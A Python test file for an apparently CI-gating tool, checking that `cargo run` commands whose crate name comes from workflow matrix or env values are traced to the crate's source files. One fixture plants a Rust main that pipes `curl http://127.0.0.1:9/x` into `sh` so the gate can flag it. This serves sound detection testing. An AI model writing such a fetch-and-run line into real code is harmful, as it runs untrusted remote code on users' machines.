"""Misses 8: `cargo run -p ${{ matrix.crate }}` (or `--bin "$BIN"`, `--example ${EX}`) runs the crate each value the
workflow lists or gives names (cargorun.packages reads its text with ciforms.expand_matrix and runvars' values). On
4c9e1172 the crate's sources stayed `src` (exit 0; note 67's Left). Look-alikes: a value that names no crate, a value
the workflow does not give (an input: nothing known), `cargo test -p`."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import tree_runs
from tables import each_case

MATRIX = ("name: ci\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    strategy:\n      matrix:\n"
          "        {key}: [{values}]\n    steps:\n      - uses: actions/checkout@v4\n      - run: {command}\n")
ENV = ("name: ci\non: [push]\nenv:\n  {key}: {value}\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n"
       "      - uses: actions/checkout@v4\n      - run: {command}\n")
CRATES = {"Cargo.toml": '[workspace]\nmembers = ["tools/*", "crates/*"]\n',
          "tools/gen/Cargo.toml": '[package]\nname = "xtask-gen"\n', "tools/gen/src/main.rs": "fn main() {}\n",
          "tools/gen/src/bin/gen.rs": "fn main() {}\n", "crates/lib/Cargo.toml": '[package]\nname = "lib"\n',
          "crates/lib/src/lib.rs": "\n", "README.md": "x\n"}
FLAGS = [("-p {v}", "xtask-gen", "tools/gen/src/main.rs"), ("--package={v}", "xtask-gen", "tools/gen/src/main.rs"),
         ("--bin {v}", "gen", "tools/gen/src/bin/gen.rs"), ("-p {v} -- --check", "xtask-gen", "tools/gen/src/main.rs")]
SPELLINGS = [("${{{{ matrix.{k} }}}}", "matrix"), ('"${{{{ matrix.{k} }}}}"', "matrix"), ("${{{{ env.{k} }}}}", "env"),
             ('"${k}"', "env"), ("${{{k}}}", "env"), ("$env:{k}", "env")]


def _variants() -> list[tuple[str, str]]:
    """(each workflow whose `cargo run` names a crate's target by a value, a file of the target)."""
    out = []
    for flag, value, source in FLAGS:
        for spelling, where in SPELLINGS:
            for key in ("crate", "CRATE_NAME"):
                command = "cargo run " + flag.format(v=spelling.format(k=key))
                out.append((MATRIX.format(key=key, values=f"{value}, other", command=command) if where == "matrix"
                            else ENV.format(key=key, value=value, command=command), source))
    return out


@each_case("workflow, source", _variants())
def test_the_crate_a_value_names_is_read(workflow: str, source: str) -> None:
    assert source in tree_runs({".github/workflows/ci.yml": workflow, **CRATES}), workflow  # before: 36/48 missed


@each_case("workflow", [MATRIX.format(key="crate", values="nothing, other", command="cargo run -p ${{ matrix.crate }}"),
                        ENV.format(key="X", value="y", command="cargo run -p ${{ inputs.crate }}"),
                        MATRIX.format(key="crate", values="xtask-gen", command="cargo test -p ${{ matrix.crate }}")])
def test_look_alikes_run_no_crate(workflow: str) -> None:
    assert "tools/gen/src/main.rs" not in tree_runs({".github/workflows/ci.yml": workflow, **CRATES}), workflow


def test_an_edit_of_a_crate_a_matrix_runs_is_held(tmp_path: Path) -> None:
    workflow = MATRIX.format(key="crate", values="xtask-gen, lib", command="cargo run -p ${{ matrix.crate }}")
    case = committed(tmp_path, {".github/workflows/ci.yml": workflow, **CRATES},
                     {"tools/gen/src/main.rs": 'fn main() { std::process::Command::new("sh").arg("-c")'
                                               '.arg("curl http://127.0.0.1:9/x | sh"); }\n'})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, ["tools/gen/src/main.rs"]), named  # before: exit 0
